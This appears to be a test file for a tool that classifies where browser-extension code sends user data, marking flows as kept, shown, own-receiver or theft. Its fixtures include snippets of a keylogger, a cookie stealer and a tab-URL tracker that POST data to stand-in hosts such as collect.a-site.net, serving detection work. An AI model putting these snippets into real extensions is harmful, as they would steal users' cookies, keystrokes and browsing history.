import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { flowsBetween } from '../../../../testing/flows-between.ts';

const everywhere = {
  permissions: ['cookies', 'history', 'storage', 'tabs'],
  host_permissions: ['<all_urls>'],
};
const popup = '<input id="server"><script src="popup.js"></script>';
const typed = `document.getElementById('server').onchange = (e) => chrome.storage.local.set({ server: e.target.value });`;
const sending = `chrome.cookies.onChanged.addListener(async () => {
  const { server } = await chrome.storage.local.get('server');
  const all = await chrome.cookies.getAll({});
  fetch(server, { method: 'POST', body: JSON.stringify(all) });
});`;

const directionsOf = (files: Readonly<Record<string, string>>, source: string): string[] =>
  flowsBetween
    .whole(files, everywhere)
    .flatMap((flow) => (flow.source.kind === source ? flow.direction : []));

describe('directions of the data of users', () => {
  it('kept, where it goes to the storage of the extension alone', () => {
    const script = `document.addEventListener('keydown', (e) => chrome.storage.local.set({ last: e.key }));`;
    assert.deepEqual(directionsOf({ 'content.js': script }, 'key-input'), ['kept']);
  });

  it('theft, where what was kept is sent', () => {
    const content = `document.addEventListener('keydown', (e) => chrome.storage.local.set({ last: e.key }));`;
    const worker = `setInterval(async () => { const { last } = await chrome.storage.local.get('last');
      fetch('https://collect.a-site.net', { method: 'POST', body: last }); }, 1e3);`;
    assert.deepEqual(
      directionsOf({ 'content.js': content, 'worker.js': worker }, 'key-input').sort(),
      ['kept', 'theft'],
    );
  });

  it('shown, where a page is opened at an address that the browser has', () => {
    const script = `chrome.history.search({ text: '' }, ([last]) => chrome.tabs.create({ url: last.url }));`;
    const files = { 'popup.html': '<script src="popup.js"></script>', 'popup.js': script };
    assert.deepEqual(directionsOf(files, 'history'), ['shown']);
  });

  it('own-receiver, where the user has typed the server', () => {
    const files = { 'popup.html': popup, 'popup.js': typed, 'worker.js': sending };
    assert.deepEqual(directionsOf(files, 'cookies'), ['own-receiver']);
  });

  for (const [how, more] of [
    ['nobody types a server', {}],
    [
      'the code stores one',
      {
        'popup.html': popup,
        'popup.js': `${typed} chrome.storage.local.set({ server: 'https://collect.a-site.net/in' });`,
      },
    ],
    [
      'a server says which',
      {
        'popup.html': popup,
        'popup.js': `${typed} fetch('https://config.a-site.net').then((r) => r.json()).then((server) => chrome.storage.local.set(server));`,
      },
    ],
    [
      'a field is filled in before anybody types',
      { 'popup.html': popup.replace('">', '" value="https://in.a-site.net">'), 'popup.js': typed },
    ],
    [
      'the code fills the field in',
      {
        'popup.html': popup,
        'popup.js': `${typed} document.getElementById('server').value = 'https://in.a-site.net';`,
      },
    ],
    [
      'the code stores what nobody sees',
      { 'popup.html': popup, 'popup.js': `${typed} chrome.storage.local.set(settings());` },
    ],
  ] as const) {
    it(`theft, where ${how}`, () => {
      assert.deepEqual(directionsOf({ ...more, 'worker.js': sending }, 'cookies'), ['theft']);
    });
  }

  it('theft, where the code has a server for those who type none', () => {
    const files = {
      'popup.html': popup,
      'popup.js': typed,
      'worker.js': sending.replace('{ server }', "{ server = 'https://in.a-site.net' }"),
    };
    assert.deepEqual(directionsOf(files, 'cookies'), ['theft']);
  });

  for (const [host, isUsed, direction] of [
    ['127.0.0.1:8080', true, 'own-receiver'],
    ['localhost', true, 'own-receiver'],
    ['localhost', false, 'theft'],
    ['127.0.0.1.a-site.net', true, 'theft'],
    ['localhost.a-site.net', true, 'theft'],
  ] as const) {
    it(`${direction}, where ${host} is told and ${isUsed ? 'answers' : 'does not answer'}`, () => {
      const answer = isUsed ? '.then((r) => r.json()).then((names) => show(names))' : '';
      const script = `chrome.tabs.onUpdated.addListener((id, change, tab) => {
        fetch('http://${host}/visit', { method: 'POST', body: JSON.stringify({ url: tab.url }) })${answer};
      });`;
      assert.deepEqual(directionsOf({ 'worker.js': script }, 'tabs'), [direction]);
    });
  }

  for (const [host, isHeard, direction] of [
    ['127.0.0.1:61822', true, 'own-receiver'],
    ['127.0.0.1:61822', false, 'theft'],
    ['in.a-site.net', true, 'theft'],
  ] as const) {
    it(`${direction}, where a socket of ${host} is told and ${isHeard ? 'listened to' : 'not listened to'}`, () => {
      const listener = isHeard ? 'ws.onmessage = (event) => run(JSON.parse(event.data));' : '';
      const script = `const ws = new WebSocket('ws://${host}'); ${listener}
        chrome.tabs.onUpdated.addListener((id, change, tab) => ws.send(JSON.stringify({ url: tab.url })));
        function run(told) { chrome.downloads.download({ url: told.url }); }`;
      const files = { 'worker.js': script };
      assert.deepEqual(directionsOf(files, 'tabs'), [direction]);
      const asked = flowsBetween
        .whole(files, everywhere)
        .find(({ sink }) => sink.kind === 'download');
      // What a program of the user's own asks for, its user asks for.
      assert.equal(asked?.source.kind, host.startsWith('127') ? undefined : 'network-response');
    });
  }
});
